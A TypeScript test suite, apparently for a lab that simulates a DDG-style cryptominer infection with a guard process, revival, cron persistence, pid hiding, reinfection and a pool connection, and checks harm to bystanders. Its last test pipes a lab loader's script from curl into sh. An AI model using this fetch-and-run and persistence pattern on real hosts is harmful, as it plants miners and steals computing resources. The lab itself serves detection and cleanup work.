import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Lab, LabHost } from './index.ts';
import { bystanderDamage, ddgInfection, diffManifest, openLab } from './index.ts';
import { curlCronLine, minerArguments, rootSpools, wgetCronLine } from './infection/infection.ts';
import { until } from './until.ts';

let lab: Lab;
let host: LabHost;

beforeAll(async () => {
  lab = await openLab();
});
afterAll(() => lab.close());
afterEach(() => host.close());

async function running(name: string) {
  return (await host.processes()).find((process) => process.comm === name && process.state !== 'Z');
}

async function lines(spool: string): Promise<string[]> {
  const text = await host.read(spool).catch(() => Buffer.of());
  return text.toString().split('\n').filter(Boolean);
}

describe('the infection of the procedure', () => {
  test('has its processes, files, cron lines and its pool connection, among bystanders', async () => {
    host = await lab.host({ infection: ddgInfection() });
    const [miner, guard] = [await running('wnTKYg'), await running('ddg.2021')];
    expect(miner).toMatchObject({ exe: '/tmp/wnTKYg', cmdline: ['/tmp/wnTKYg'], ppid: guard?.pid });
    const processes = await host.processes();
    const loader = processes.find((process) => process.cmdline.join(' ') === 'sh /tmp/i.sh');
    const children = processes.filter((process) => process.ppid === loader?.pid);
    expect(children.map(({ comm }) => comm)).toContain('curl');
    for (const spool of rootSpools) {
      const found = await lines(spool);
      expect(found.filter((line) => line === curlCronLine || line === wgetCronLine)).toHaveLength(2);
      expect(found.filter((line) => line !== curlCronLine && line !== wgetCronLine)).toEqual(
        host.bystanders?.cron[spool],
      );
      expect([found[0], found.at(-1)]).not.toContain(curlCronLine);
    }
    const image = await host.read('/tmp/wnTKYg');
    expect(image.subarray(0, 4).toString('latin1')).toBe('\x7fELF');
    expect(image.includes('mining.subscribe')).toBe(true);
    await until(
      async () => (await lab.pool.connections()).some((one) => one.open && one.submits > 0),
      'a share is submitted',
    );
  });

  test('does not change by itself, and hurts no bystander', async () => {
    // Quiet: with children that come and go no two manifests of an infected host are equal.
    host = await lab.host({ infection: ddgInfection({ habits: 'quiet' }) });
    const before = await host.manifest();
    expect(diffManifest(before, await host.manifest())).toEqual([]);
    expect(before.processes.filter((line) => /wnTKYg|ddg|i\.sh|compile/.test(line))).toHaveLength(5);
    const truth = host.bystanders;
    if (truth === null) throw new Error('no bystanders');
    expect(await bystanderDamage(host, truth)).toEqual([]);
    await host.sh(
      'sed -i /backup/d /var/spool/cron/root; rm /tmp/i.sh.orig; pkill -x compile; pkill -f bookworm.iso',
    );
    await until(async () => (await bystanderDamage(host, truth)).length === 4, 'each kind of damage is seen');
  });

  test('comes back by itself: process, file and cron lines', async () => {
    host = await lab.host({ infection: ddgInfection() });
    const before = await host.read('/tmp/wnTKYg');
    const miner = await running('wnTKYg');
    await host.sh(`kill -9 ${miner?.pid}; rm /tmp/wnTKYg; sed -i /i.sh/d /var/spool/cron/root; crontab -r`);
    await until(async () => {
      const now = await running('wnTKYg');
      return now !== undefined && now.pid !== miner?.pid && (await lines(rootSpools[1])).length === 2;
    }, 'the guard revives');
    await until(async () => (await lines(rootSpools[0])).includes(wgetCronLine), 'the other spool too');
    expect(sha256(await host.read('/tmp/wnTKYg'))).toBe(sha256(before));
  });

  test('is dead and gone from the pool when guard and miner are killed together', async () => {
    host = await lab.host({ infection: ddgInfection(), bystanders: false });
    const [guard, miner] = [await running('ddg.2021'), await running('wnTKYg')];
    await host.sh(`kill -9 ${guard?.pid} ${miner?.pid}`);
    await until(async () => (await running('wnTKYg')) === undefined, 'the miner is dead');
    await until(async () => (await lab.pool.connections()).every((one) => !one.open), 'the pool lost it');
  });

  test('uses little of a processor', async () => {
    host = await lab.host({ infection: ddgInfection() });
    const miner = await running('wnTKYg');
    const before = (await lab.pool.connections()).at(-1)?.submits ?? 0;
    await until(
      async () => ((await lab.pool.connections()).at(-1)?.submits ?? 0) > before + 1,
      'it works for some seconds',
    );
    const used = await host.sh(`set -- $(cut -d')' -f2 /proc/${miner?.pid}/stat); echo $(($12 + $13))`);
    // Ticks of 10 ms over at least three seconds.
    expect(Number(used.stdout.toString())).toBeLessThan(15);
  });
});

describe('variants', () => {
  test('real habits: children come and go under guard and loader, the miner stays, is revived once, bystanders live', async () => {
    host = await lab.host({ infection: ddgInfection({ habits: 'real' }) });
    const [miner, guard] = [await running('wnTKYg'), await running('ddg.2021')];
    expect(miner?.ppid).toBe(guard?.pid);
    const children = new Set<string>();
    await until(async () => {
      for (const { ppid, comm } of await host.processes()) if (ppid === guard?.pid) children.add(comm);
      return children.has('sleep') && children.has('wnTKYg');
    }, 'the guard sleeps');
    const scripts = (await host.processes()).filter(({ cmdline }) => cmdline.join(' ') === 'sh /tmp/i.sh');
    expect(scripts).toHaveLength(2);
    await host.sh(`kill -9 ${miner?.pid}; rm /tmp/wnTKYg; sed -i /i.sh/d /var/spool/cron/root`);
    await until(async () => {
      const now = await running('wnTKYg');
      return (
        now !== undefined && now.pid !== miner?.pid && (await lines(rootSpools[0])).includes(curlCronLine)
      );
    }, 'the guard revives');
    const miners = (await host.processes()).filter(({ comm, state }) => comm === 'wnTKYg' && state !== 'Z');
    expect(miners).toHaveLength(1);
    const truth = host.bystanders;
    if (truth === null) throw new Error('no bystanders');
    expect(await bystanderDamage(host, truth)).toEqual([]);
  });

  test('other names, arguments, a deleted image, IPv6, without guard', async () => {
    host = await lab.host({
      infection: ddgInfection({
        miner: {
          path: '/var/tmp/.x/kworkerds',
          args: minerArguments,
          deleted: true,
          pool: { address: lab.pool.address6, port: lab.pool.port },
        },
        guard: null,
        loader: null,
        cron: { spools: ['/var/spool/cron/crontabs/root'], lines: [wgetCronLine] },
      }),
    });
    const miner = await running('kworkerds');
    expect(miner?.cmdline).toEqual(['/var/tmp/.x/kworkerds', ...minerArguments]);
    await until(
      async () => (await running('kworkerds'))?.exe === '/var/tmp/.x/kworkerds (deleted)',
      'its image is gone',
    );
    expect((await lab.pool.connections()).some((one) => one.open && one.from === host.address6)).toBe(true);
    expect(await lines(rootSpools[0])).not.toContain(wgetCronLine);
  });

  test("guard without miner keeps another user's crontab", async () => {
    host = await lab.host({ database: false });
    await host.addUser('deploy');
    const spool = '/var/spool/cron/crontabs/deploy';
    await host.infect(ddgInfection({ miner: null, loader: null, cron: { spools: [spool] } }));
    expect((await host.run(['stat', '-c', '%U %a', spool])).stdout.toString()).toBe('deploy 600\n');
    await host.sh(`sed -i /i.sh/d ${spool}`);
    await until(async () => (await lines(spool)).length === 2, 'the lines are back', 1_000);
    expect(await running('wnTKYg')).toBeUndefined();
  });

  test('covered pids are hidden in the host and seen from outside', async () => {
    host = await lab.host({ infection: ddgInfection({ coverPids: true }) });
    const miner = await running('wnTKYg');
    expect((await host.sh(`ls -A /proc/${miner?.pid} | wc -l`)).stdout.toString()).toBe('0\n');
  });

  test('a script that names nothing infects once more', async () => {
    host = await lab.host({
      infection: ddgInfection({ reinfect: { afterSeconds: 0.2 } }),
      bystanders: false,
    });
    expect((await host.read('/opt/app/refresh.sh')).toString()).not.toMatch(/wnTKYg|ddg|i\.sh/);
    const [guard, miner] = [await running('ddg.2021'), await running('wnTKYg')];
    await host.sh(`kill -9 ${guard?.pid} ${miner?.pid}; rm -f /tmp/wnTKYg /tmp/ddg.2021; crontab -r`);
    await until(async () => (await running('wnTKYg')) !== undefined, 'round two');
    await until(async () => (await lines(rootSpools[1])).length === 2, 'its cron lines');
  });

  test('a serving loader infects whoever pipes it into a shell', async () => {
    host = await lab.host({ database: false });
    await lab.loader.set('serve');
    await host.sh(`curl -fsSL http://${lab.loader.address}:${lab.loader.port}/i.sh | sh`);
    await until(async () => (await running('wnTKYg')) !== undefined, 'the miner runs', 5_000);
    await host.sh(`curl -fsSL http://${lab.loader.address}:${lab.loader.port}/i.sh | sh`);
    const names = (await host.processes()).filter(({ state }) => state !== 'Z').map(({ comm }) => comm);
    expect(names.filter((name) => name === 'ddg.2021' || name === 'wnTKYg')).toHaveLength(2);
    expect(await lines(rootSpools[1])).toEqual([curlCronLine, wgetCronLine]);
    await lab.loader.set('hang');
  });
});

function sha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('hex');
}
